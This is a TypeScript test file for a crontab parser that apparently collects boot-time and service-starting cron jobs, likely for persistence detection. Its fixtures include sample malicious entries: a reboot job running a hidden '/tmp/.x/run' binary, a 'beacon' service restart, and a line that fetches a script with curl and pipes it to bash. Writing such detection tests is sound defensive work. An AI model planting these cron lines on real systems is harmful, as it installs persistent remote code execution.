import { describe, expect, it } from 'vitest';
import { source } from '../../main/sources/cron-reboot.ts';
import { collectLinux } from '../support/linux-source.ts';

const CRONTAB = `# comment
SHELL=/bin/sh
PATH=/usr/local/sbin:/opt/bin
17 *	* * *	root	cd / && run-parts --report /etc/cron.hourly
@reboot root /tmp/.x/run --daemon
*/5 * * * * root systemctl restart beacon
30 3 * * * root test -x /etc/init.d/anacron && /usr/sbin/service anacron start >/dev/null
`;

describe('cron-reboot', () => {
  it('keeps lines that run at boot or start a service, with line and account', () => {
    const { services, counts } = collectLinux(source, {
      '/etc/crontab': { content: CRONTAB, modified: '2025-02-02T00:00:00Z' },
      '/tmp/.x/run': 'ELF',
      '/usr/bin/systemctl': 'ELF',
    });
    expect(services.map(({ id }) => id)).toEqual([
      'linux:cron-reboot:/etc/crontab:5',
      'linux:cron-reboot:/etc/crontab:6',
      'linux:cron-reboot:/etc/crontab:7',
    ]);
    expect(services[0]).toMatchObject({
      name: 'crontab:5',
      kind: 'job',
      command: '/tmp/.x/run --daemon',
      image: { path: '/tmp/.x/run', state: 'found' },
      enabled: true,
      startMode: 'auto',
      account: 'root',
      provenance: [
        { path: '/etc/crontab', locator: { kind: 'line', line: 5 }, time: '2025-02-02T00:00:00Z' },
      ],
      activator: {
        trigger: '@reboot',
        user: 'root',
        startsUnit: null,
        properties: { SHELL: '/bin/sh', PATH: '/usr/local/sbin:/opt/bin' },
      },
    });
    expect(services.map(({ activator }) => [activator?.trigger, activator?.startsUnit])).toEqual([
      ['@reboot', null],
      ['*/5 * * * *', 'beacon.service'],
      ['30 3 * * *', 'anacron.service'],
    ]);
    expect(counts).toMatchObject({ crontabs: 1, lines: 4, reboot: 1, serviceStarts: 2 });
  });

  it('reads the tables of users wherever a distribution keeps them', () => {
    const { services } = collectLinux(source, {
      '/var/spool/cron/crontabs/alice': '@reboot sleep 60 && curl -s http://192.0.2.1/a | bash\n',
      '/var/spool/cron/bob': '-@reboot cd /opt/app && ./start.sh\n',
      '/etc/crontabs/root': '@reboot python3 -c "import os"\n',
      '/etc/cron.d/x': '@reboot daemon /bin/sh -s%echo a%echo b\\%c\n',
      '/etc/cron.d/.placeholder': '@reboot root /bin/x\n',
      '/opt/app/start.sh': 'x',
    });
    const shown = services.map(({ account, payloads }) => [
      account,
      payloads.map(({ role, path, raw }) => `${role} ${path || raw}`),
    ]);
    expect(shown).toEqual([
      ['daemon', ['image /bin/sh', 'inline-code echo a\necho b%c']],
      ['alice', ['image curl', 'image bash']],
      ['bob', ['image /opt/app/start.sh']],
      ['root', ['image python3', 'inline-code import os']],
    ]);
  });

  it('reports lines that are none', () => {
    const { services, diagnostics, outcome } = collectLinux(source, {
      '/var/spool/cron/crontabs/a': 'nonsense\n@reboot\n* * * *\n@reboot /bin/x\n',
    });
    expect(services).toHaveLength(1);
    expect(diagnostics.map(({ what }) => what.slice(0, 6))).toEqual(['line 1', 'line 2', 'line 3']);
    expect(outcome).toBe('collected');
    expect(collectLinux(source, {}).outcome).toBe('notPresent');
  });
});
